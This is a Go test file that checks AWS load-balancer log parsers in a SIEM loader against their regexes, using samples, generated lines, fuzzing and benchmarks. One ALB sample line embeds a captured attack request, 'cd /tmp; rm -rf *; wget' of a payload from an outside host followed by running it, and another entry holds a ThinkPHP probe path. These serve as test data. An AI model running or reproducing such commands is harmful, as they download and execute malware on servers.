package logtypes

import (
	"bufio"
	"compress/gzip"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/siemloader/siemloader/conf"
	"github.com/siemloader/siemloader/normalize/pyjson"
)

// The ELB line parsers are only trustworthy if they agree with the
// regexes: whenever a parser accepts a line, its map must be the one the
// engine builds from the regex match (see matchPattern in
// normalize/formats.go). These tests check that on the samples, on
// generated variants and under fuzzing.

var elbParsers = map[string]LineParser{
	"alb": parseALBLine,
	"clb": parseCLBLine,
	"nlb": parseNLBLine,
}

var (
	builtinOnce sync.Once
	builtinCfg  *conf.Config
	builtinErr  error
)

func builtinPattern(t testing.TB, logType string) *conf.Pattern {
	t.Helper()
	builtinOnce.Do(func() { builtinCfg, builtinErr = conf.Load() })
	if builtinErr != nil {
		t.Fatal(builtinErr)
	}
	lt := builtinCfg.Type(logType)
	if lt == nil || lt.LogPattern == nil {
		t.Fatalf("no built-in log_pattern for %s", logType)
	}
	return lt.LogPattern
}

// regexFields is matchPattern's regex path.
func regexFields(p *conf.Pattern, s string) (*pyjson.Map, bool) {
	idx := p.MatchSubmatchIndex(s)
	if idx == nil {
		return nil, false
	}
	names := p.SubexpNames()
	m := pyjson.NewMap(len(names))
	for i, name := range names {
		if i == 0 || name == "" {
			continue
		}
		if idx[2*i] < 0 {
			m.Set(name, nil)
			continue
		}
		m.Set(name, s[idx[2*i]:idx[2*i+1]])
	}
	return m, true
}

// mapDiff describes how got differs from want: keys, their order, values,
// and nil against "".
func mapDiff(got, want *pyjson.Map) string {
	if got.Len() != want.Len() {
		return fmt.Sprintf("%d keys, want %d (%v vs %v)", got.Len(), want.Len(), got.Keys(), want.Keys())
	}
	for i := 0; i < want.Len(); i++ {
		gk, gv := got.At(i)
		wk, wv := want.At(i)
		if gk != wk {
			return fmt.Sprintf("key %d is %q, want %q", i, gk, wk)
		}
		if !sameValue(gv, wv) {
			return fmt.Sprintf("%s = %s, want %s", wk, showValue(gv), showValue(wv))
		}
	}
	return ""
}

func sameValue(a, b any) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	as, aok := a.(string)
	bs, bok := b.(string)
	return aok && bok && as == bs
}

func showValue(v any) string {
	if v == nil {
		return "nil"
	}
	if s, ok := v.(string); ok {
		return fmt.Sprintf("%q", s)
	}
	return fmt.Sprintf("%T(%v)", v, v)
}

// checkLine compares the parser of logType with the regex on line. It
// reports whether the parser took the line.
func checkLine(t testing.TB, logType, line string) (fast bool) {
	t.Helper()
	p := builtinPattern(t, logType)
	got, ok := elbParsers[logType](line)
	if !ok {
		if got != nil {
			t.Errorf("%s: parser returned a map with ok=false for %q", logType, line)
		}
		return false
	}
	want, matched := regexFields(p, line)
	if !matched {
		t.Errorf("%s: parser accepted a line the regex rejects: %q", logType, line)
		return true
	}
	if d := mapDiff(got, want); d != "" {
		t.Errorf("%s: parser and regex differ on %q: %s", logType, line, d)
	}
	return true
}

// sampleLines returns the lines of the ELB samples of a log type, from
// /work/shared/samples (when present) and examples/samples.
func sampleLines(t testing.TB, logType string) []string {
	t.Helper()
	var files []string
	shared := filepath.Join("/work/shared/samples", logType)
	if _, err := os.Stat(shared); err == nil {
		filepath.WalkDir(shared, func(path string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() && (strings.HasSuffix(path, ".log") || strings.HasSuffix(path, ".log.gz")) {
				files = append(files, path)
			}
			return nil
		})
	}
	examples := filepath.Join("..", "..", "examples", "samples")
	filepath.WalkDir(examples, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.Contains(path, "elasticloadbalancing") {
			return nil
		}
		name := filepath.Base(path)
		var kind string
		switch {
		case strings.Contains(name, "_app."):
			kind = "alb"
		case strings.Contains(name, "_net."):
			kind = "nlb"
		case strings.HasSuffix(name, ".log"):
			kind = "clb"
		}
		if kind == logType {
			files = append(files, path)
		}
		return nil
	})
	var lines []string
	for _, path := range files {
		f, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		var r io.Reader = f
		if strings.HasSuffix(path, ".gz") {
			gz, err := gzip.NewReader(f)
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			r = gz
		}
		sc := bufio.NewScanner(r)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			if line := strings.TrimSpace(sc.Text()); line != "" {
				lines = append(lines, line)
			}
		}
		if err := sc.Err(); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		f.Close()
	}
	return lines
}

// TestELBParserNames keeps the parsers' group lists in step with aws.ini.
func TestELBParserNames(t *testing.T) {
	for logType, names := range map[string][]string{"alb": albNames, "clb": clbNames, "nlb": nlbNames} {
		var want []string
		for _, n := range builtinPattern(t, logType).SubexpNames() {
			if n != "" {
				want = append(want, n)
			}
		}
		if strings.Join(names, ",") != strings.Join(want, ",") {
			t.Errorf("%s: parser groups\n%v\npattern groups\n%v", logType, names, want)
		}
		if _, ok := LookupLineParser(logType); !ok {
			t.Errorf("%s: parser not registered", logType)
		}
	}
}

// TestELBParsersOnSamples: every sample line the regex matches must take
// the fast path, with the regex's result.
func TestELBParsersOnSamples(t *testing.T) {
	for _, logType := range []string{"alb", "clb", "nlb"} {
		lines := sampleLines(t, logType)
		if len(lines) == 0 {
			t.Errorf("%s: no sample lines found", logType)
			continue
		}
		p := builtinPattern(t, logType)
		matched, fast := 0, 0
		for _, line := range lines {
			isFast := checkLine(t, logType, line)
			if p.Match(line) {
				matched++
				if isFast {
					fast++
				} else {
					t.Errorf("%s: sample line the regex matches is not taken by the parser: %q", logType, line)
				}
			}
		}
		t.Logf("%s: %d sample lines, %d matched by the regex, %d on the fast path", logType, len(lines), matched, fast)
	}
}

// Lines of shapes the parsers are meant to take (checked against the regex
// like every other line, and required to be fast).
var elbFastShapes = map[string][]string{
	"alb": {
		// IPv6 client and target without brackets: the port is after the last colon
		`https 2024-05-20T13:20:04.211873Z app/a/b 2001:db8::1:51944 fe80::1:80 0.001 0.038 0.000 200 200 412 13804 "GET https://www.example.com:443/ HTTP/2.0" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:x "Root=1-1" "www.example.com" "arn:cert" 1 2024-05-20T13:20:04.172000Z "forward" "-" "-" "[2001:db8::2]:80" "200" "-" "-" TID_1`,
		// IPv6 client in brackets: the regex keeps the brackets
		`https 2024-05-20T13:20:04.211873Z app/a/b [fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:tg "Root=1-1" "www.example.com" "arn:cert" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1`,
		// query with a space, a '?' and a quote-free '"'-less path with spaces
		`http 2022-05-12T06:41:29.051646Z app/a/b 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws?x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp; rm" "-" "-" "-" "Acceptable" "SpaceInUri"`,
		`http 2022-05-12T06:41:29.051646Z app/a/b 1.2.3.4:1 - -1 -1 -1 400 - 1 2 "GET http://h:80/a b/c HTTP/1.1" "x" - - - "-" "-" "-" 0 2022-05-12T06:41:29.051000Z "-" "-" "-" "-" "-"`,
		// a space in the host; a trailing space, which leaves the version
		// empty and puts " HTTP/1.1" in the path
		`http 2022-05-12T06:41:29.051646Z app/a/b 1.2.3.4:1 - -1 -1 -1 400 - 1 2 "GET http://a b:80/ HTTP/1.1" "x" - - - "-" "-" "-" 0 2022-05-12T06:41:29.051000Z "-" "-" "-" "-" "-"`,
		`http 2022-05-12T06:41:29.051646Z app/a/b 1.2.3.4:1 - -1 -1 -1 400 - 1 2 "GET http://h:80/ HTTP/1.1 " "x" - - - "-" "-" "-" 0 2022-05-12T06:41:29.051000Z "-" "-" "-" "-" "-"`,
		// empty user agent: useragent is None
		`http 2022-05-12T06:41:29.051646Z app/a/b 1.2.3.4:1 10.0.0.1:80 0.1 0.2 0.3 200 200 1 2 "POST http://h:8080/api?x=1&y=2 HTTP/1.0" "" - - arn:tg "Root=1" "-" "-" 5 2022-05-12T06:41:29.051000Z "forward" "-" "-" "10.0.0.1:80" "200"`,
		// no request line, no URL, dash port
		`http 2018-11-30T22:23:00.186641Z app/a/b 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-" "-" "-" "-" "-" TID_0`,
		`http 2018-11-30T22:23:00.186641Z app/a/b 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- http://www.example.com:80- -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-" "-" "-"`,
		`http 2018-11-30T22:23:00.186641Z app/a/b 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "GET http://www.example.com:80-?a b " "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-" "-" "-"`,
		// quotes inside lambda_error_reason. (Retries, with several targets in
		// the space-separated lists, do not match the pattern at all:
		// `[^\s]+`.)
		`https 2024-05-20T13:20:41.667020Z app/a/b 89.160.20.120:52977 10.0.2.66:80 0.000 30.002 -1 504 - 690 382 "POST https://api.example.com:443/v1/reports/export HTTP/1.1" "Mozilla/5.0 (X11; Ubuntu)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:tg "Root=1-1" "api.example.com" "arn:cert" 2 2024-05-20T13:20:11.664000Z "waf,forward" "-" "a"b" "10.0.2.66:80" "-" "-" "-" TID_1`,
		// classification with extra quotes, then extra fields
		`h2 2024-05-20T13:20:41.667020Z app/a/b 1.1.1.1:1 - 0 0 0 200 200 1 1 "GET https://a.b:443/ HTTP/2.0" "ua" - - - "" "" "" - - "" "" "" "-" "200" "Acceptable" "Non"Compliant"x" TID_1 more fields`,
		// non-ASCII where the pattern's classes are negated ones
		`https 2024-05-20T13:20:41.667020Z app/a/b 1.1.1.1:1 - 0 0 0 200 200 1 1 "GET https://hôte.example:443/päth?q=ü HTTP/2.0" "Mozilla/5.0 (ü)" - - - "Root=ü" "" "" - - "" "https://ü" "" "-" "200"`,
	},
	"clb": {
		`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2`,
		`2015-05-13T23:39:43.945958Z my-loadbalancer 2001:db8::1:2817 - -1 -1 -1 503 0 0 0 "GET https://www.example.com:443/a b?x=1 HTTP/1.1" "ua with "quotes" inside" - -`,
		`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 - - 1 2 "- - - " "-" - -`,
		`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 - - 1 2 "- - - " - - -`,
		`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 400 400 1 2 "GET http://h:80/path -" "" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
		`2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 400 400 1 2 "GET http://h:80-?q - " """ - -`,
	},
	"nlb": {
		`tls 2.0 2024-05-20T13:20:59 net/api-prod-nlb/1f2e3d4c5b6a7980 9c8b7a6f5e4d3c2b 2001:db8:5f2a::44:49832 203.0.113.20:443 950 11 1211 3306 - arn:cert 0f3c TLS_CHACHA20_POLY1305_SHA256 tlsv13 x25519 api.example.com h2 h2 "h2","http/1.1" 2024-05-20T13:20:58`,
		`tls 2.0 2024-05-20T13:20:38 net/a/b c 175.16.199.51:38810 203.0.113.20:443 3 - 517 0 - - - - - - - - - - 2024-05-20T13:20:38`,
		`tls 2.0 2024-05-20T13:20:38 net/a/b c 175.16.199.51:38810 [2001:db8::1]:443 3 - - -1 - - - - - - - - - -`,
		`tls 2.0 2024-05-20T13:20:38 net/a/b c 175.16.199.51:38810 203.0.113.20:443 3 1 2 3 - - - - - - - - - h2 2024-05-20T13:20:38.123 trailing`,
		`tls 2.0 2024-05-20T13:20:38 net/a/b c 175.16.199.51:38810 203.0.113.20:443 3 1 2 3 - - - - - - - - - -h2 2024-05-20T13:20:38`,
	},
}

func TestELBParsersFastShapes(t *testing.T) {
	for logType, lines := range elbFastShapes {
		for _, line := range lines {
			if !checkLine(t, logType, line) {
				t.Errorf("%s: not on the fast path (regex matches: %v): %q", logType, builtinPattern(t, logType).Match(line), line)
			}
		}
	}
}

// Field choices for generated lines: real values, then the odd ones the
// parsers must either get right or leave to the regex.
var (
	genALB = [][]string{
		{"http", "https", "h2", "ws", "wss", "", "-"},
		{"2024-05-20T13:20:04.211873Z"},
		{"app/web-prod-alb/8a9b7c6d5e4f3a2b", "", "a\"b"},
		{"89.160.20.115:51944", "2001:db8::1:443", "[2001:db8::1]:443", ":80", "1.2.3.4:", "1.2.3.4", "a:b:c", "1.2.3.4:80x", "é:1"},
		{"10.0.1.25:80", "-", "[::1]:80", "ip-10-0-0-1", "10.0.0.1:80 10.0.0.2:80", "", "10.0.0.1-"},
		{"0.001 0.038 0.000", "-1 -1 -1", "0.001 x 0", "  "},
		{"200 200", "460 -", " -", "- -", "502 5x", ""},
		{"412 13804", "- -", "0 0", "1  2"},
		{
			`"GET https://www.example.com:443/ HTTP/2.0"`,
			`"GET https://www.example.com:443/static/app.js?v=1 HTTP/2.0"`,
			`"- - -"`, `"- http://h:80- -"`, `"- http://internal:80-/ "`,
			`"GET http://h:80/a b HTTP/1.1"`, `"GET http://h:80/p?q=1 2 HTTP/1.1"`,
			`"GET http://h:80/p?a?b HTTP/1.1"`, `"GET http://[::1]:80/ HTTP/1.1"`,
			`"GET http://[::1:80/ HTTP/1.1"`, `"GET http://h]:80/ HTTP/1.1"`,
			`"GET http://h:80/ "`, `"GET http://h:80/ -"`, `"GET http://h:80/"`,
			`"GET http://h:80-?x HTTP/1.1"`, `"GET http://h:80-?x y -"`, `"GET http://h:80-x HTTP/1.1"`,
			`"GET http://h:x:80/ HTTP/1.1"`, `"GET http://a:b@h:80/ HTTP/1.1"`,
			`"GET h:80/ HTTP/1.1"`, `"GET ://h:80/ HTTP/1.1"`, `"GET http://h:80/ HTTP/"`,
			`"GET http://h:80/ HTTP/1.1 extra"`, `"G-T http://h:80/ HTTP/1.1"`,
			`"GET  http://h:80/ HTTP/1.1"`, `"GET http://h:80 HTTP/1.1"`,
			`"GET http://h/:80/ HTTP/1.1"`, `"GET http://h:80/"x HTTP/1.1"`,
			`"GET http://h:80/é HTTP/1.1"`, `"GÉT http://h:80/ HTTP/1.1"`,
			`"PRI * HTTP/2.0"`, `"GET http://h:80/ HTTP/1.1" "inner"`,
			`"GET http://h:80/?q="x" HTTP/1.1"`, "\"GET http://h:80/a?b\tc HTTP/1.1\"",
			"\"GET http://h:80/a?b\nc HTTP/1.1\"", "\"GET http://h\n:80/a HTTP/1.1\"",
			`"GET http://h:80/ HTTP/1.1 "`, `"- - "`, `"-"`, `""`, `"GET - HTTP/1.1"`, `"GET - -"`,
			`"GET http://h:80/ H/1..2"`, `"GET http://h:80/ HTTP/1.1x"`, `"GET http:// :80/ -"`,
			`"GET http://h :80/ -"`, `"GET http://h:8 0/ -"`, `"GET http://h:080/ x/"`,
		},
		{`"curl/8.5.0"`, `""`, `"-"`, `"a "b" c"`, `"Mozilla/5.0 (X11) ü"`, `"`, `"x`},
		{"ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2", "- -", " ", "TLS_AES_128_GCM_SHA256 TLSv1.3", "ecdhe TLSv1.2", "(NONE) -"},
		{"arn:aws:elasticloadbalancing:ap-northeast-1:1:targetgroup/tg/6d", "-", ""},
		{`"Root=1-664b4e04" "www.example.com" "arn:cert"`, `"" "" ""`, `"-" "-" "-"`, `"a b" "c" "d"`},
		{"1 2024-05-20T13:20:04.172000Z", "- -", " ", "1.5 x"},
		{`"waf,forward" "-"`, `"" ""`, `"redirect" "https://h:443/a b"`},
		{`"-"`, `""`, `"LambdaUnhandled"`, `"a"b"`, `"a b"`, `"`},
		{`"10.0.1.25:80"`, `"-"`, `"10.0.1.25:80 10.0.1.26:80"`, `""`, `"a"b"`, "\"a\tb\"", `"é"`},
		{`"200"`, `"-"`, `"502 200"`, `""`, `"200"x`, `"2"0"`, "\"200\t\"", `"é"`},
		{
			"", ` "-" "-" TID_x`, ` "Acceptable" "SpaceInUri"`, ` "-"`, ` "a" "b" "c"`, ` TID_x`, `x`,
			` "a"b" "c"d"e"`, ` "a" "b`, ` "a" ""`, ` "" "b"`, ` "a"  "b"`, "\t\"a\" \"b\"", ` "é" "b"`, ` "a" "é"`,
			` "a" "b"é`, ` "a" "b"` + "\x85",
		},
	}
	genCLB = [][]string{
		{"2024-05-20T13:20:02.118273Z", ""},
		{"legacy-web-clb"},
		{"89.160.20.119:53011", "2001:db8::1:443", "[::1]:80", "A::1:80", "1.2.3.4:", ":80", "-:1"},
		{"10.0.3.14:80", "-", "10.0.3.14:-1", "10.0.3.14", "-:80", "::1:8-0"},
		{"0.000041 0.012231 0.000029", "-1 -1 -1", "1  2 3"},
		{"200 200", "- -", "503 0", "x 2"},
		{"0 5312", "- -"},
		{
			`"GET http://legacy.example.com:80/ HTTP/1.1"`, `"- - - "`, `"- - -"`,
			`"GET http://h:80/a b HTTP/1.1"`, `"GET http://h:80/p?q=1 2 HTTP/1.1"`,
			`"GET http://h:80/p?a?b HTTP/1.1"`, `"GET http://[::1]:80/ HTTP/1.1"`,
			`"GET http://h/x:80/ HTTP/1.1"`, `"GET http://h:80/ - "`, `"GET http://h:80/ -"`,
			`"GET http://h:80-?x - "`, `"GET http://h:80-?x y -"`, `"-x- http://h:80/ HTTP/1.1"`,
			`"GET http://h:80/ "`, `"GET http://h:80/ HTTP/1.1 "`, `"GET http://h:80/?s=index/\think HTTP/1.1"`,
			`"GET http://h:80/"x HTTP/1.1"`, `"GET http://h:80/ - - "`, `"- - - - "`,
		},
		{`"Mozilla/5.0 (Windows NT 10.0)"`, `"-"`, `""`, `-`, `"a "b" c"`, `"""`, `"`, `"a"`, "\"a\nb\""},
		{"- -", "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2", "-", "- - -", "a  b", "a b "},
	}
	genNLB = [][]string{
		{"tls", ""},
		{"2.0", "1.0"},
		{"2024-05-20T13:20:12 net/api-prod-nlb/1f2e3d4c5b6a7980 9c8b7a6f5e4d3c2b"},
		{"89.160.20.115:52011", "2001:db8::1:443", "[::1]:443", "A:1", "1.2.3.4:"},
		{"203.0.113.20:443", "[::1]:443", "x:", "x"},
		{"14021 12 3521 18844", "3 - - -", "3 - 517 0", "- 1 2 3", "1 2 -1 -"},
		{"- arn:cert 0f3c", "- - -", "40 - -", "  -"},
		{"TLS_AES_128_GCM_SHA256 tlsv13 x25519", "- - -"},
		{"mqtt.example.com", "-", "[a](b)"},
		{"- -", "h2 h2"},
		{"-", `"h2","http/1.1"`, "-x", "", `\"http/1.1\"`},
		{"", " 2024-05-20T13:19:58", " 2024-05-20T13:19:58.5 x", " 20", " 2x", " 20é", "  2024", " -", " 2018-12-20T02:59:30 x y"},
	}
)

// genLine joins one random choice per field with spaces (the ALB
// classification tail and the NLB creation time carry their own space).
func genLine(r *rand.Rand, fields [][]string, noSpaceBeforeLast bool) string {
	var b strings.Builder
	for i, choices := range fields {
		if i > 0 && !(noSpaceBeforeLast && i == len(fields)-1) {
			b.WriteByte(' ')
		}
		// the first choice, a real value, half of the time
		c := choices[0]
		if r.IntN(2) == 0 {
			c = choices[r.IntN(len(choices))]
		}
		b.WriteString(c)
	}
	return b.String()
}

var mutationInserts = []string{
	`"`, " ", "?", ":", "[", "]", "-", "/", "\t", "\n", "é", "\u00a0", "\x85", "\xff", "2", "0", "T", `" "`, "- ", "\"\"",
}

var fieldReplacements = []string{
	"-", "", `""`, `"-"`, "0", "-1", `"a b"`, `"x"y"`, "[2001:db8::1]:443", "2001:db8::1:443", "::1:80", "?", `"?"`,
	"http://h:80/", `"- - -"`, "x\ty", "ü",
}

// mutate applies one to three random edits to line.
func mutate(r *rand.Rand, line string) string {
	for n := 1 + r.IntN(3); n > 0; n-- {
		switch r.IntN(6) {
		case 0: // replace a field
			fs := strings.Split(line, " ")
			fs[r.IntN(len(fs))] = fieldReplacements[r.IntN(len(fieldReplacements))]
			line = strings.Join(fs, " ")
		case 1: // insert
			p := r.IntN(len(line) + 1)
			line = line[:p] + mutationInserts[r.IntN(len(mutationInserts))] + line[p:]
		case 2: // delete a range
			if len(line) > 0 {
				p := r.IntN(len(line))
				q := p + 1 + r.IntN(min(8, len(line)-p))
				line = line[:p] + line[q:]
			}
		case 3: // truncate
			line = line[:r.IntN(len(line)+1)]
		case 4: // extra trailing fields
			line += []string{` "x" "y"`, ` TID_123`, ` "Acceptable" "-"`, ` 2024-01-01T00:00:00`, ` extra`, ` -`, `"`}[r.IntN(7)]
		case 5: // drop a field
			fs := strings.Split(line, " ")
			if len(fs) > 1 {
				k := r.IntN(len(fs))
				line = strings.Join(append(fs[:k:k], fs[k+1:]...), " ")
			}
		}
	}
	return line
}

// TestELBParsersDifferential compares parser and regex on generated lines:
// random combinations of real and odd field values, and random edits of
// the sample lines.
func TestELBParsersDifferential(t *testing.T) {
	gens := map[string]struct {
		fields    [][]string
		tailSpace bool
	}{
		"alb": {genALB, true},
		"clb": {genCLB, false},
		"nlb": {genNLB, true},
	}
	for _, logType := range []string{"alb", "clb", "nlb"} {
		r := rand.New(rand.NewPCG(1, uint64(len(logType))))
		g := gens[logType]
		var lines []string
		for range 4000 {
			lines = append(lines, genLine(r, g.fields, g.tailSpace))
		}
		samples := sampleLines(t, logType)
		for _, fs := range elbFastShapes[logType] {
			samples = append(samples, fs)
		}
		for range 4000 {
			lines = append(lines, mutate(r, samples[r.IntN(len(samples))]))
		}
		p := builtinPattern(t, logType)
		fast, matched := 0, 0
		for _, line := range lines {
			if checkLine(t, logType, line) {
				fast++
			}
			if p.Match(line) {
				matched++
			}
		}
		t.Logf("%s: %d generated lines, %d matched by the regex, %d on the fast path", logType, len(lines), matched, fast)
		if fast < matched/2 {
			t.Errorf("%s: only %d of %d matching generated lines on the fast path", logType, fast, matched)
		}
	}
}

// TestELBParsersConcurrent runs the parsers from several goroutines (the
// engine normalizes objects in parallel); run with -race.
func TestELBParsersConcurrent(t *testing.T) {
	var lines [][2]string
	for _, logType := range []string{"alb", "clb", "nlb"} {
		for _, line := range elbFastShapes[logType] {
			if _, ok := elbParsers[logType](line); !ok {
				t.Fatalf("%s: not on the fast path: %q", logType, line)
			}
			lines = append(lines, [2]string{logType, line})
		}
	}
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := range 200 {
				l := lines[(g*7+n)%len(lines)]
				got, _ := elbParsers[l[0]](l[1])
				want, _ := regexFields(builtinPattern(t, l[0]), l[1])
				if d := mapDiff(got, want); d != "" {
					t.Errorf("%s: %q: %s", l[0], l[1], d)
					return
				}
			}
		}()
	}
	wg.Wait()
}

func fuzzELB(f *testing.F, logType string) {
	for _, line := range sampleLines(f, logType) {
		f.Add(line)
	}
	for _, line := range elbFastShapes[logType] {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		checkLine(t, logType, line)
	})
}

func FuzzALBLineParser(f *testing.F) { fuzzELB(f, "alb") }
func FuzzCLBLineParser(f *testing.F) { fuzzELB(f, "clb") }
func FuzzNLBLineParser(f *testing.F) { fuzzELB(f, "nlb") }

const benchALBLine = `h2 2024-05-20T13:20:04.211873Z app/web-prod-alb/8a9b7c6d5e4f3a2b 89.160.20.115:51944 10.0.1.25:80 0.001 0.038 0.000 200 200 412 13804 "GET https://www.example.com:443/static/app.3f9c2e.js?v=20240520 HTTP/2.0" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:ap-northeast-1:111122223333:targetgroup/web-prod-tg/6d0ecf831eec9f09 "Root=1-664b4e04-84d911a26f71c8533b50f0d0" "www.example.com" "arn:aws:acm:ap-northeast-1:111122223333:certificate/2f6b1c9d-8e7a-4b3c-9d1e-0f5a6b7c8d9e" 1 2024-05-20T13:20:04.172000Z "waf,forward" "-" "-" "10.0.1.25:80" "200" "-" "-" TID_810f74cbe2ace006903213c22b721ab7`

const benchCLBLine = `2024-05-20T13:20:09.771902Z legacy-web-clb 216.160.83.62:60022 10.0.3.15:443 0.000052 0.041870 0.000031 200 200 88 2911 "GET https://legacy.example.com:443/login?next=/account HTTP/1.1" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`

const benchNLBLine = `tls 2.0 2024-05-20T13:20:19 net/api-prod-nlb/1f2e3d4c5b6a7980 9c8b7a6f5e4d3c2b 216.160.83.58:60412 203.0.113.20:443 2201 9 1882 5410 - arn:aws:acm:ap-northeast-1:111122223333:certificate/7a1d3f5b-2c4e-4a6b-8d0f-1e3a5c7b9d2f 0f3c5b2e9a7d41c68e0b3a1f5d7c9e2b TLS_AES_256_GCM_SHA384 tlsv13 x25519 api.example.com h2 h2 "h2","http/1.1" 2024-05-20T13:20:17`

func benchParser(b *testing.B, logType, line string) {
	if !checkLine(b, logType, line) {
		b.Fatal("benchmark line not on the fast path")
	}
	p := elbParsers[logType]
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := p(line); !ok {
			b.Fatal("not ok")
		}
	}
}

func benchRegex(b *testing.B, logType, line string) {
	p := builtinPattern(b, logType)
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := regexFields(p, line); !ok {
			b.Fatal("no match")
		}
	}
}

func BenchmarkALBLineParser(b *testing.B) { benchParser(b, "alb", benchALBLine) }
func BenchmarkALBRegex(b *testing.B)      { benchRegex(b, "alb", benchALBLine) }
func BenchmarkCLBLineParser(b *testing.B) { benchParser(b, "clb", benchCLBLine) }
func BenchmarkCLBRegex(b *testing.B)      { benchRegex(b, "clb", benchCLBLine) }
func BenchmarkNLBLineParser(b *testing.B) { benchParser(b, "nlb", benchNLBLine) }
func BenchmarkNLBRegex(b *testing.B)      { benchRegex(b, "nlb", benchNLBLine) }
